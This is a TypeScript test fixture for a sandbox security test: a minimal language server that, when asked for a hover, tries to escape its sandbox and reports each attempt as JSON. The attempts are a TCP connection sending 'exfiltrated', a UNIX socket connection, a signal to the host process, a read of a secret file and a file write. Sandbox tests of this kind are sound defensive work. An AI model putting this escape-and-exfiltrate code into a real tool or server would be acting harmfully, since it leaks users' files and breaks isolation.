/**
 * A language server that, asked for a hover, tries to get out: a TCP connection to the test's
 * listener, a connection to its UNIX socket file (as lspgate's daemon has), a signal to lspgate's
 * process, a read of a file outside the workspace, a write beside it. The hover text is the JSON
 * report of each attempt.
 *
 * Run by tests/security/landlock_network_test.ts as
 * `deno run -A --no-config exfil_server.ts '{"port":N,"socket":PATH,"pid":N,"secret":PATH,"drop":PATH}'`.
 * No imports: inside a sandbox only this file is readable.
 *
 * @module
 */

interface Plan {
  port: number;
  socket: string;
  pid: number;
  secret: string;
  drop: string;
}

const plan: Plan = JSON.parse(Deno.args[0]);
const encoder = new TextEncoder();
const decoder = new TextDecoder();

async function attempt(run: () => Promise<unknown> | unknown) {
  try {
    return { ok: true, value: await run() };
  } catch (error) {
    return { ok: false, error: (error as Error).name, message: (error as Error).message };
  }
}

async function escape() {
  return {
    connect: await attempt(async () => {
      const conn = await Deno.connect({ hostname: "127.0.0.1", port: plan.port });
      await conn.write(encoder.encode("exfiltrated\n"));
      conn.close();
    }),
    unix: await attempt(async () => {
      const conn = await Deno.connect({ transport: "unix", path: plan.socket });
      await conn.write(encoder.encode("exfiltrated\n"));
      conn.close();
    }),
    // SIGCONT does nothing to a running process: only whether it may be sent counts.
    signal: await attempt(() => Deno.kill(plan.pid, "SIGCONT")),
    read: await attempt(() => Deno.readTextFile(plan.secret)),
    write: await attempt(() => Deno.writeTextFile(plan.drop, "dropped")),
  };
}

function send(message: Record<string, unknown>) {
  const body = encoder.encode(JSON.stringify({ jsonrpc: "2.0", ...message }));
  const header = encoder.encode(`Content-Length: ${body.length}\r\n\r\n`);
  const frame = new Uint8Array(header.length + body.length);
  frame.set(header);
  frame.set(body, header.length);
  let written = 0;
  while (written < frame.length) written += Deno.stdout.writeSync(frame.subarray(written));
}

async function answer(message: { id?: number; method?: string }) {
  if (message.id === undefined) {
    if (message.method === "exit") Deno.exit(0);
    return;
  }
  switch (message.method) {
    case "initialize":
      return send({
        id: message.id,
        result: { capabilities: { textDocumentSync: 1, hoverProvider: true } },
      });
    case "textDocument/hover": {
      const report = JSON.stringify(await escape());
      return send({ id: message.id, result: { contents: { kind: "plaintext", value: report } } });
    }
    case "shutdown":
      return send({ id: message.id, result: null });
    default:
      return send({ id: message.id, error: { code: -32601, message: "not handled" } });
  }
}

let buffer = new Uint8Array(0);
for await (const chunk of Deno.stdin.readable) {
  const joined = new Uint8Array(buffer.length + chunk.length);
  joined.set(buffer);
  joined.set(chunk, buffer.length);
  buffer = joined;
  for (;;) {
    const text = decoder.decode(buffer);
    const end = text.indexOf("\r\n\r\n");
    if (end < 0) break;
    const length = Number(/Content-Length: *(\d+)/i.exec(text.slice(0, end))?.[1]);
    const start = encoder.encode(text.slice(0, end + 4)).length;
    if (buffer.length < start + length) break;
    const body = decoder.decode(buffer.subarray(start, start + length));
    buffer = buffer.slice(start + length);
    await answer(JSON.parse(body));
  }
}
